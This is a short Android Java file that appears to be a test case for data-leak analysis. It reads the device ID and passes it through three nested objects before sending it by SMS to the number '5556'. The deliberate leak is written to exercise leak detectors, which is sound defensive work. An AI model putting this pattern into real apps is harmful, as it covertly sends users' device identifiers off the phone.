package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Three objects down, through setters. */
public class Nested extends Case {
    static class A { B b = new B(); }
    static class B { C c = new C(); void set(String x) { c.f = x; } }
    static class C { String f; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        A a = new A();
        a.b.set(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("5556", null, a.b.c.f, null, null);
    }
}
